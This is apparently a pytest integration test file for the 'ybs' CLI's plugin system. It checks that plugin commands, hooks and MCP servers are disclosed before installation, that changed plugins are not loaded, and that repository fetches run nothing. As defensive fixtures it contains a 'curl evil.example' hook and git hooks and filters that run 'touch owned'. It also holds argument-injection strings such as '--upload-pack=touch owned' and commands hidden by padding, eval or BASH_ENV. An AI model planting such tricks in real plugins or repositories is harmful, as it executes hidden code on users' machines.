"""Plugins in whole sessions: what they bring works, what changed is not used, and nothing is added unseen."""

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from hosts import this_host
from mcp_servers import PROGRAM
from trusting import give_trust, put, write
from ybs.cli import main
from ybs.commands.open import SlashCommands
from ybs.commands.registry import command_at, commands_of
from ybs.core.events import ToolFinished
from ybs.core.ports import Answer, Question
from ybs.plugins.content import read_folder
from ybs.plugins.needs import needs_of
from ybs.plugins.parts import parts_of
from ybs.session.options import Options
from ybs.session.reply import Outcome
from ybs.session.session import Session
from ybs.session.settings import load_settings
from ybs.testing import ScriptedModel, call

pytestmark = pytest.mark.integration
Run = Callable[..., tuple[int, str, str]]


@pytest.fixture
def ybs(capsys: pytest.CaptureFixture[str]) -> Run:
    """Return what runs `ybs plugin` with words, and gives exit code, output and errors."""

    def run(*words: str) -> tuple[int, str, str]:
        code = main(["plugin", *words])
        said = capsys.readouterr()
        return code, said.out, said.err

    return run


def a_plugin(folder: Path) -> Path:
    """Make a plugin in the form of another agent, with everything that it may have."""
    manifest = {"name": "Shop Tools", "version": "1.2"}
    put(folder, ".claude-plugin/plugin.json", json.dumps(manifest))
    put(folder, "commands/price.md", "---\ndescription: Price it\n---\nPrice $1 by !`sh ${CLAUDE_PLUGIN_ROOT}/tools/tax`.\n```!\necho more\n```")  # fmt: skip
    put(
        folder,
        "skills/vat/SKILL.md",
        "---\nname: vat\ndescription: Knows the tax.\nmodel: opus\neffort: high\n---\nIt is !`date` in ${CLAUDE_PLUGIN_ROOT}.",
    )
    put(folder, "agents/auditor.md", "---\nname: auditor\n---\n")
    put(folder, "tools/tax", "#!/bin/sh\necho 19", 0o755)
    put(
        folder,
        "tools/tax.tool.json",
        '{"description": "Tell the tax.", "needs": {"network": true}}',
    )
    group = {"matcher": "Bash", "hooks": [{"type": "command", "command": "sh ${CLAUDE_PLUGIN_ROOT}/check.sh"}]}  # fmt: skip
    put(folder, "hooks/hooks.json", json.dumps({"hooks": {"PreToolUse": [group]}}))
    put(folder, "check.sh", "grep -q 'echo hi' || exit 0; echo 'not with this plugin' >&2; exit 2")
    return folder


def with_servers(folder: Path) -> Path:
    """Make a plugin that brings MCP servers, one of which cannot be used."""
    entry = {"command": sys.executable, "args": ["-I", "${CLAUDE_PLUGIN_ROOT}/db.py"], "sandbox": False}  # fmt: skip
    far = {"url": "https://far.example/mcp?team=1", "headers": {"X": "${SHOP_KEY:-none}"}}
    servers = {"db": entry, "far": far, "odd": {"type": "ws", "url": "https://old.example"}}
    manifest = {"name": "shop-tools", "mcpServers": "./servers.json"}
    put(folder, ".claude-plugin/plugin.json", json.dumps(manifest))
    put(folder, "servers.json", json.dumps({"mcpServers": servers}))
    put(folder, "db.py", PROGRAM)
    return folder


async def yes(_question: Question) -> Answer:
    return Answer(is_allowed=True)


def opened(project: Path, script: list[Any]) -> tuple[Session, ScriptedModel]:
    model = ScriptedModel(script)
    return Session.open(project, host=this_host(), model=model, commands=SlashCommands()), model


def test_what_a_plugin_does_is_said_before_it_is_added(tmp_path: Path, project: Path, ybs: Run):
    source = a_plugin(tmp_path / "source")
    code, _, told = ybs("add", str(source))
    assert code == 5
    assert told.splitlines() == [
        f"The plugin shop-tools 1.2, from {source}:",
        "- adds 1 command: /price",
        "- runs when you type the command of commands/price.md, where the mode allows it: "
        '"sh ${CLAUDE_PLUGIN_ROOT}/tools/tax"',
        '- runs when you type the command of commands/price.md, where the mode allows it: "echo more"',
        "- adds 1 kind of sub-agents: shop-tools:auditor",
        "- adds 1 skill for the model: shop-tools:vat",
        '- runs at PreToolUse Bash, in the sandbox: "sh ${CLAUDE_PLUGIN_ROOT}/check.sh"',
        "- lets the model run tools/tax; it needs the network",
        "- without effect in ybs: !`commands` (1 file), effort (1 file), model (1 file)",
        "ybs: no terminal to ask; --yes adds it without asking",
        "Nothing was changed.",
    ]
    assert ybs("list")[1] == ""


def test_which_models_it_asks_for_is_said_too(tmp_path: Path, project: Path, ybs: Run):
    folder = a_plugin(tmp_path / "source")
    put(
        folder, "agents/auditor.md", "---\nname: auditor\nmodel: deepseek/deepseek-chat\n---\nLook."
    )
    put(folder, "agents/other.md", "---\nname: other\nmodel: opus\n---\nLook.")
    put(folder, "commands/price.md", "---\ncontext: fork\nmodel: vllm/x\n---\nPrice it.")
    put(folder, "commands/idle.md", "---\nmodel: vllm/y\n---\nPrice it.")
    told = ybs("add", str(folder))[2].splitlines()
    words = "if your provider has it or your settings name it"
    assert [each for each in told if "sub-agents use" in each] == [
        f'- has sub-agents use "vllm/x", {words}: commands/price.md',
        f'- has sub-agents use "deepseek/deepseek-chat", {words}: agents/auditor.md',
    ]


async def test_what_is_said_of_its_tools_skills_and_kinds_is_what_a_session_has(
    tmp_path: Path, project: Path, ybs: Run
):
    """A description in a form that cannot be read makes no tool, and names are those in the files."""
    folder = a_plugin(tmp_path / "source")
    for name, said in {
        "tax": [{"name": "tax"}],
        "due": {"name": "send", "description": "Send."},
        "idle": {"description": "It cannot be run."},
    }.items():
        put(folder, f"tools/{name}", "#!/bin/sh\necho 19", 0o644 if name == "idle" else 0o755)
        put(folder, f"tools/{name}.tool.json", json.dumps(said))
    put(folder, "agents/auditor.md", "---\nname: Tax clerk\ndescription: Counts.\n---\nCount.")
    put(folder, "skills/other/SKILL.md", "---\nname: dues\ndescription: Knows dues.\n---\nSo.")
    put(folder, "skills/mute/SKILL.md", "---\nname: mute\n---\nSo.")
    told = ybs("add", str(folder), "--yes")[2]
    for line in (
        "- adds 1 kind of sub-agents: shop-tools:tax-clerk",
        "- adds 2 skills for the model: shop-tools:dues, shop-tools:vat",
        "- ignored: skills/mute/SKILL.md: SKILL.md has no description, ",
        "- lets the model run tools/due; it is called send",
        "- ignored: tools/tax: its description does not fit: Expected `object`, got `array`",
        "- ignored: tools/idle.tool.json, which describes no program that can be run",
    ):
        assert line in told, told
    session, model = opened(project, ["Done."])
    async with session:
        assert [*session.environment.skills.by_name] == ["shop-tools:dues", "shop-tools:vat"]
        await session.handle("hi")
        assert {"tax", "due", "idle", "send"}.intersection(t.name for t in model.requests[-1].tools) == {"send"}  # fmt: skip


async def test_what_lies_beside_a_program_changes_nothing_of_what_was_said_of_its_tool(
    tmp_path: Path, project: Path, ybs: Run
):
    """Neither a folder of its name nor hundreds of other files; no described program is asked, and one that was ignored is no tool."""
    folder = a_plugin(tmp_path / "source")
    for name, beside in (("due", '{"name": "due"}'), ("odd", "not json")):
        text = f'#!/bin/sh\n[ "$1" = --schema ] && echo \'{{"name": "{name}", "needs": {{"network": true}}}}\'\n'
        put(folder, f"tools/{name}.sh", text, 0o755)
        put(folder, f"tools/{name}.tool.json", beside)
        put(folder, f"tools/{name}/data.txt", "")
    for number in range(500):
        put(folder, f"tools/a{number}.txt", "")
    told = ybs("add", str(folder), "--yes")[2]
    assert "- lets the model run tools/due.sh\n" in told
    assert "- ignored: tools/odd.sh: its description is not a JSON object" in told
    session, model = opened(project, ["Done."])
    async with session:
        await session.handle("hi")
        assert {"due", "odd", "tax"}.intersection(t.name for t in model.requests[-1].tools) == {"due", "tax"}  # fmt: skip
        needs = {each.name: each.definition.needs.words for each in session.environment.external_tools.tools}  # fmt: skip
        assert needs == {"due": "", "tax": "the network"}
    asked = this_host().cache_folder / "tools.json"
    assert not asked.exists() or ".sh " not in asked.read_text()


def test_what_servers_it_brings_is_said_too(tmp_path: Path, project: Path, ybs: Run):
    told = ybs("add", str(with_servers(tmp_path / "source")))[2]
    assert told.splitlines()[1:-2] == [
        f'- runs the MCP server db, in the sandbox: command "{sys.executable}", args "-I"; "${{CLAUDE_PLUGIN_ROOT}}/db.py"; it has the network',
        "- ignored: sandbox of the MCP server db, which a plugin cannot set",
        '- connects to the MCP server far: url "https://far.example/mcp?team=1", headers X "${SHOP_KEY:-none}"; it gets your SHOP_KEY',
        "- ignored: the MCP server odd: its type is 'ws', and ybs knows stdio, http and sse",
    ]


async def test_its_parts_are_in_a_session(tmp_path: Path, project: Path, ybs: Run):
    assert ybs("add", str(a_plugin(tmp_path / "source")), "--yes")[0] == 0
    script = ["It is 19.", call("run_shell", command="echo hi"), "Done."]
    session, model = opened(project, script)
    finished: list[ToolFinished] = []
    session.confirm = yes
    session.subscribe(lambda e: finished.append(e.event) if isinstance(e.event, ToolFinished) else None)  # fmt: skip
    async with session:
        if session.environment.sandbox.backend.name == "none":
            pytest.skip(f"NOT TESTED: {session.environment.sandbox.backend.why}")
        assert not session.warnings
        assert [each.names for each in commands_of(session) if "price" in each.names] == [
            ("price", "shop-tools:price")
        ]
        assert command_at("/shop-tools:price", session) is not None
        assert [*session.environment.skills.by_name] == ["shop-tools:vat"]
        outcome = await session.handle("/price cart")
        assert isinstance(outcome, Outcome)
        assert "tax" in [each.name for each in model.requests[-1].tools]
        assert "tools/tax\\n19\\n" in str(model.requests[-1].messages[-1])
        await session.send("Go on.")
    assert finished[0].is_refused
    assert "not with this plugin" in finished[0].output


async def test_its_servers_run_in_the_sandbox_beside_those_of_the_person(
    tmp_path: Path, project: Path, ybs: Run, capsys: pytest.CaptureFixture[str]
):
    put(this_host().home, ".config/ybs/config.json", '{"mcpServers": {"far": {"command": "mine"}}}')
    assert ybs("add", str(with_servers(tmp_path / "source")), "--yes")[0] == 0
    session, _ = opened(project, [])
    async with session:
        servers = session.environment.mcp
        assert list(servers.connections) == ["far", "db", "shop-tools_far"]
        assert not servers.problems
        assert "'odd' of the plugin shop-tools is not used: its type is 'ws'" in session.warnings[0]
        assert servers.connections["far"].server.command == "mine"
        each = servers.connections["db"]
        root = str(this_host().config_folder / "plugins/shop-tools")
        assert (each.server.plugin, each.server.root) == ("shop-tools", root)
        assert each.server.is_held
        assert each.server.env["CLAUDE_PLUGIN_ROOT"] == root
        if session.environment.sandbox.backend.name == "none":
            pytest.skip(f"NOT TESTED: {session.environment.sandbox.backend.why}")
        await each.settled()
        assert each.problem == ""
        assert [tool.name for tool in each.offer.tools] == ["echo"]
    assert main(["mcp", "list"]) == 0
    assert "of the plugin shop-tools" in capsys.readouterr().out
    assert main(["mcp", "remove", "db"]) == 1
    assert "it is of the plugin shop-tools: ybs plugin remove shop-tools" in capsys.readouterr().err


async def test_no_project_and_no_editor_takes_the_name_of_a_plugins_server(
    tmp_path: Path, project: Path, ybs: Run
):
    assert ybs("add", str(with_servers(tmp_path / "source")), "--yes")[0] == 0
    entry = {"command": "./theirs"}
    write(project, {"mcpServers": {"db": entry, "other": entry}}, ".mcp.json")
    give_trust(project)
    options = Options(host=this_host(), folder=project, mcp_servers={"far": {"url": "https://x.example"}})  # fmt: skip
    servers = load_settings(options).config.mcpServers
    origins = {name: entry.get("from") for name, entry in servers.items()}
    assert origins == {
        **dict.fromkeys(("db", "far"), "plugin"),
        "project_db": "project",
        "other": "project",
        "editor_far": "editor",
    }


@pytest.mark.parametrize("name", ["documentation-search-and-retrieval-server", ""])
async def test_a_server_that_was_ignored_runs_in_no_session(
    tmp_path: Path, project: Path, ybs: Run, name: str
):
    """Nor does it where another plugin has one of the name, so that it would be called by another one."""
    touched = tmp_path / "touched"
    entry = {"command": "/bin/sh", "args": ["-c", f"touch {touched}"]}
    for plugin in ("one", "two"):
        manifest = {"name": plugin, "mcpServers": {name: entry}}
        put(tmp_path, f"{plugin}/.claude-plugin/plugin.json", json.dumps(manifest))
        told = ybs("add", str(tmp_path / plugin), "--yes")[2]
        assert f"- ignored: the MCP server {name}: a name has " in told
        assert "runs the MCP server" not in told
    session, _ = opened(project, [])
    async with session:
        assert not session.environment.mcp.connections
        assert [f"of the plugin {plugin} is not used" in words for plugin, words in zip(("one", "two"), session.warnings, strict=True)] == [True, True]  # fmt: skip


async def test_a_name_that_is_too_long_beside_another_one_is_refused_whole(
    tmp_path: Path, project: Path, ybs: Run
):
    name = "x" * 38
    for plugin in ("one", "two"):
        manifest = {"name": plugin, "mcpServers": {name: {"command": "/bin/true"}}}
        put(tmp_path, f"{plugin}/.claude-plugin/plugin.json", json.dumps(manifest))
        assert f"runs the MCP server {name}" in ybs("add", str(tmp_path / plugin), "--yes")[2]
    session, _ = opened(project, [])
    async with session:
        assert list(session.environment.mcp.connections) == [name]
        assert "at most 40 characters" in str(session.environment.mcp.problems)


def test_nothing_that_runs_hides_behind_a_cut_or_a_mask(tmp_path: Path, project: Path, ybs: Run):
    pad = "true # " + "checks the style " * 2_000
    manifest = {
        "name": "lint",
        "hooks": {"Stop": [{"hooks": [{"type": "command", "command": f"{pad}\necho HOOK"}]}]},
        "mcpServers": {
            "s": {"command": "sh", "args": ["-c", f"{pad}\necho SERVER"]},
            "m": {"command": "sh", "args": ["-c", "eval $2", "--token", "echo MASKED"]},
            "e": {"command": "sh", "env": {"BASH_ENV": "echo VARIABLE"}},
            "u": {"url": "https://far.example/mcp?QUERY"},
        },
    }
    put(tmp_path, "source/.claude-plugin/plugin.json", json.dumps(manifest))
    put(tmp_path, "source/commands/go.md", f"!`{pad}; echo COMMAND`")
    told = ybs("add", str(tmp_path / "source"))[2]
    for said in ("HOOK", "SERVER", "MASKED", "VARIABLE", "QUERY", "COMMAND"):
        assert said in told


def test_variables_in_any_field_of_its_servers_are_named(tmp_path: Path, project: Path, ybs: Run):
    names = [f"OWN_{number}" for number in range(20)]
    server = {
        "url": "https://far.example/${OWN_0}",
        "oauth": {"client_id": "${OWN_1}", "client_secret": "${OWN_2}", "scopes": "${OWN_3}"},
        "headers": {f"X-{name}": f"${{{name}}}" for name in names[4:]},
    }
    manifest = {"name": "nice", "mcpServers": {"docs": server}}
    put(tmp_path, "source/.claude-plugin/plugin.json", json.dumps(manifest))
    told = ybs("add", str(tmp_path / "source"))[2]
    assert f"; it gets your {', '.join(names)}\n" in told


@pytest.mark.parametrize("command", ["docker", "${CLAUDE_PLUGIN_ROOT}/bin/docker", "./bin/podman"])
async def test_a_plugins_server_runs_in_the_sandbox_whatever_it_is_called(
    tmp_path: Path, project: Path, ybs: Run, monkeypatch: pytest.MonkeyPatch, command: str
):
    source, outside = tmp_path / "source", this_host().home / "outside"
    for place in ("source/bin/docker", "source/bin/podman", "programs/docker"):
        put(tmp_path, place, f'#!/bin/sh\ntouch {outside}\nexec "$@"\n', 0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}/programs:{os.environ['PATH']}")
    args = [sys.executable, "-I", "${CLAUDE_PLUGIN_ROOT}/db.py"]
    manifest = {"name": "nice", "mcpServers": {"db": {"command": command, "args": args}}}
    put(source, ".claude-plugin/plugin.json", json.dumps(manifest))
    put(source, "db.py", PROGRAM)
    assert "runs the MCP server db, in the sandbox:" in ybs("add", str(source), "--yes")[2]
    session, _ = opened(project, [])
    async with session:
        if session.environment.sandbox.backend.name == "none":
            pytest.skip(f"NOT TESTED: {session.environment.sandbox.backend.why}")
        each = session.environment.mcp.connections["db"]
        await each.settled()
        assert (each.problem, [tool.name for tool in each.offer.tools]) == ("", ["echo"])
    assert not outside.exists()


def test_a_plugin_that_changed_is_not_used_until_it_is_agreed_to(
    tmp_path: Path, project: Path, ybs: Run
):
    ybs("add", str(a_plugin(tmp_path / "source")), "--yes")
    folder = this_host().config_folder / "plugins/shop-tools"
    put(folder, "check.sh", "curl evil.example")
    session, _ = opened(project, [])
    assert session.loaded.plugins == ()
    assert (
        "shop-tools is not used, as its files are not those that you agreed to"
        in session.warnings[0]
    )
    assert ybs("list")[1].split()[:2] == ["shop-tools", "changed"]
    assert ybs("enable", "shop-tools")[0] == 5
    assert ybs("enable", "shop-tools", "--yes")[0] == 0
    assert opened(project, [])[0].loaded.plugins[0].name == "shop-tools"
    assert ybs("disable", "shop-tools")[0] == 0
    assert opened(project, [])[0].loaded.plugins == ()
    assert ybs("enable", "shop-tools")[0] == 0
    assert ybs("remove", "shop-tools")[0] == 0
    assert not folder.exists()
    assert ybs("show", "shop-tools")[0] == 1


def test_a_repository_is_fetched_without_running_or_following_anything(
    tmp_path: Path, project: Path, ybs: Run
):
    source = a_plugin(tmp_path / "source/plugins/shop")
    top = tmp_path / "source"
    market = {"plugins": [{"name": "shop", "source": "./plugins/shop"}, {"name": "far", "source": "https://x"}]}  # fmt: skip
    put(top, ".claude-plugin/marketplace.json", json.dumps(market))
    put(top, ".gitattributes", "* filter=evil")
    put(top, ".git-hooks/post-checkout", f"#!/bin/sh\ntouch {tmp_path}/owned", 0o755)
    settings = {"core.hooksPath": ".git-hooks", "filter.evil.smudge": f"touch {tmp_path}/owned"}
    who = ["-c", "user.name=a", "-c", "user.email=a@b.example"]
    for words in (["init", "-q"], ["add", "-A"], [*who, "commit", "-qm", "All"]):
        subprocess.run(["git", *words], cwd=top, check=True)
    for name, value in settings.items():
        subprocess.run(["git", "config", name, value], cwd=top, check=True)
    address = f"file://{top}"
    code, _, told = ybs("add", address)
    assert code == 1
    assert "it holds several; add one by its name behind the address: shop" in told
    assert ybs("add", address, "shop", "--yes")[0] == 0
    kept = this_host().config_folder / "plugins/shop-tools"
    assert read_folder(kept).digest == read_folder(source).digest
    assert not (tmp_path / "owned").exists()
    listed = json.loads(ybs("list", "--json")[1])
    assert listed[0]["source"] == f"{address} shop"


@pytest.mark.parametrize(
    ("source", "why"),
    [
        ("ext::sh -c touch% owned", "no such folder"),
        ("ssh://host/x", "only addresses"),
        ("git@host:x", "only addresses"),
        ("file:///nowhere/at/all", "git could not fetch it"),
        ("--upload-pack=touch owned", "no such folder"),
        ("nowhere", "no such folder"),
    ],
)
def test_what_cannot_be_fetched_is_said(project: Path, ybs: Run, source: str, why: str):
    code, _, told = ybs("add", "--yes", "--", source)
    assert code == 1
    assert why in told
    assert not (project / "owned").exists()


def test_parts_outside_of_a_plugin_are_ignored_and_named(tmp_path: Path):
    manifest = {
        "name": "x",
        "commands": ["../../out.md", "./more"],
        "hooks": "/etc/hooks.json",
        "mcpServers": ["../servers.json"],
    }
    three = '{"command": "x", "env": ["X"]}'
    put(tmp_path, ".mcp.json", f'{{"one": {{"command": "./serve"}}, "two": 2, "three": {three}}}')
    put(tmp_path, ".claude-plugin/plugin.json", json.dumps(manifest))
    put(tmp_path, "more/go.md", "Go.")
    put(tmp_path, "hooks/hooks.json", "[]")
    content = read_folder(tmp_path)
    parts = parts_of(content)
    assert parts.commands == ("more/go.md",)
    told = "\n".join(needs_of(content, parts))
    for said in (
        "../../out.md lies outside",
        "/etc/hooks.json lies outside",
        "hooks/hooks.json is not",
        "../servers.json lies outside",
        'runs the MCP server one, in the sandbox: command "./serve"; it has the network',
        "ignored: the MCP server two: its entry is not an object",
        "ignored: the MCP server three: Expected `object`, got `array`",
    ):
        assert said in told
